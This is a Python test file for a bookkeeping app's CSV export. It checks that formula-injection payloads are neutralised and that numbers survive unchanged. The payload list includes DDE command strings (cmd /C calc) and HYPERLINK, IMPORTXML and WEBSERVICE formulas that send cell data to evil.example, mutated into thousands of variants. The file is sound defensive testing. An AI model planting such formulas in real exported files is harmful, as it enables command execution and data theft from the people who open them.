"""CSV that daybook writes: no spreadsheet runs what others wrote into it, and numbers stay numbers."""

import ast
import csv
import io
import random
from decimal import Decimal
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from adapters.files import KINDS
from adapters.files.copying import write_copy
from adapters.files.formulas import ADDED, is_copy, neutral, restored
from adapters.files.reading.batches import SEPARATOR, Batch
from adapters.files.templates import template
from tests.adapters.files.build import told
from tests.support.laws import examples

ROOT = Path(__file__).parents[2]
TENDERS = KINDS["tenders"]
PAYLOADS = 5_000
STARTS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠", " =", "\u00a0@", "  +")
BODIES = (
    "cmd|' /C calc'!A0",
    'HYPERLINK("https://evil.example/?"&A1,"x")',
    "SUM(1+1)*cmd|' /C notepad'!A1",
    "1+1",
    "2-3",
    'IMPORTXML(CONCAT("https://evil.example/",A1),"//a")',
    'WEBSERVICE("https://evil.example")',
    "@SUM(A1)",
    "=1",
    "-1+cmd",
    "12.50=1",
    "DDE(a,b,c)",
)
NUMBERS = ("-12.50", "+5", "-1,234.50", "-$5.00", "0", "-.5", "12.5%", "-0", "1234567890.12", "+1,000", " -3 ")


def payloads() -> list[str]:
    """Formulas of all kinds, as others hide them."""
    rng = random.Random(6)
    made = [start + body for start in STARTS for body in BODIES]
    while len(made) < PAYLOADS:
        body = rng.choice(BODIES)
        at = rng.randrange(len(body) + 1)
        noise = "".join(rng.choices("abc'\",;=+-@ 0123456789()|!", k=rng.randrange(1, 12)))
        made.append(rng.choice(STARTS) + body[:at] + noise + body[at:])
    return made


def runs(cell: str) -> bool:
    """A spreadsheet would take the cell for a formula: it begins as one does, and is no number."""
    text = cell.lstrip(" \u00a0")
    if text[:1] not in {"=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"}:
        return False
    try:
        Decimal(text.strip().replace(",", "").replace("$", "").rstrip("%"))
    except ArithmeticError:
        return True
    return False


def copy_of(data: bytes) -> bytes:
    """The copy of a file with its problems."""
    out = io.BytesIO()
    write_copy(io.BytesIO(data), TENDERS, out)
    return out.getvalue()


def rows_of(data: bytes) -> list[list[str]]:
    """The cells of a copy."""
    return list(csv.reader(io.StringIO(data.decode("utf-8", "surrogateescape").removeprefix("\ufeff"), newline="")))


def as_file(header: list[str], rows: list[list[str]]) -> bytes:
    """A CSV file, every cell quoted."""
    text = io.StringIO(newline="")
    csv.writer(text, quoting=csv.QUOTE_ALL).writerows([header, *rows])
    return text.getvalue().encode()


def test_no_cell_of_a_copy_is_run_by_a_spreadsheet() -> None:
    """Five thousand formulas, in known and unknown columns and in headers: none comes out as one."""
    made = payloads()
    assert len(made) >= PAYLOADS
    assert all(runs(one) for one in made if not one.strip().lstrip("+-").isdigit())
    header = ["Number", "Name", "Type", *[one for one in made[:40] if "\r" not in one]]
    rows = [[str(number), one, one, one] for number, one in enumerate(made)]
    written = rows_of(copy_of(as_file(header, rows)))
    assert len(written) == len(made) + 1
    assert [cell for row in written for cell in row if runs(cell)] == []


def test_numbers_stay_numbers() -> None:
    """Signs, commas, currencies and percents: a spreadsheet goes on reckoning with them."""
    assert [neutral(number) for number in NUMBERS] == list(NUMBERS)
    rows = [[number, "Visa", number, number] for number in NUMBERS]
    written = rows_of(copy_of(as_file(["Number", "Name", "Type", "Extra"], rows)))
    assert [row[4] for row in written[1:]] == list(NUMBERS)


def test_a_copy_that_is_imported_says_what_the_file_said() -> None:
    """The apostrophes of a copy are taken off again, and only those: the answer is the same about every row."""
    rows = [[str(number), one, "'=x"] for number, one in enumerate(payloads()[:300])]
    data = as_file(["Number", "Name", "Type"], rows)
    assert [problem[1:] for problem in told(copy_of(data), TENDERS)] == [problem[1:] for problem in told(data, TENDERS)]
    assert [row[1:] for row in rows_of(copy_of(copy_of(data)))[1:]] == rows_of(copy_of(data))[1:]


@settings(max_examples=examples(300))
@given(cells=st.lists(st.text(alphabet="'=+-@\tab1.,$% ＝", max_size=8), min_size=1, max_size=5))
def test_what_is_made_neutral_is_restored(cells: list[str]) -> None:
    """Whatever the cell, apostrophes of its own included; and nothing neutral is run."""
    made = [neutral(cell) for cell in cells]
    assert [cell for cell in made if runs(cell)] == []
    batch = Batch((1,), [SEPARATOR.join(made)])
    assert restored(batch).records == [SEPARATOR.join(cells)]


def test_only_a_copy_is_restored() -> None:
    """A file of somebody else's keeps its apostrophes."""
    assert is_copy(Batch((1,), [f"{ADDED} Extra: unknown{SEPARATOR}Number"]))
    assert not is_copy(Batch((1,), [f"Number{SEPARATOR}{ADDED}"]))
    assert rows_of(copy_of(b"Number,Name\n1,'=x\n"))[1][2] == "''=x"


@pytest.mark.parametrize("kind", sorted(KINDS))
def test_no_template_holds_a_formula(kind: str) -> None:
    """Headers and samples alike."""
    assert [cell for row in csv.reader(io.StringIO(template(KINDS[kind]))) for cell in row if runs(cell)] == []


def test_csv_is_written_in_two_places_only() -> None:
    """Whoever writes it elsewhere has to make its cells neutral, and to be named here."""
    writers = [
        str(path.relative_to(ROOT))
        for package in ("domain", "adapters", "projections", "api")
        for path in (ROOT / package).rglob("*.py")
        if "simulator" not in path.parts
        for node in ast.walk(ast.parse(path.read_text()))
        if isinstance(node, ast.Attribute)
        and node.attr in {"writer", "DictWriter"}
        and ast.unparse(node.value) == "csv"
    ]
    assert sorted(set(writers)) == ["adapters/files/copying.py", "adapters/files/templates.py"]
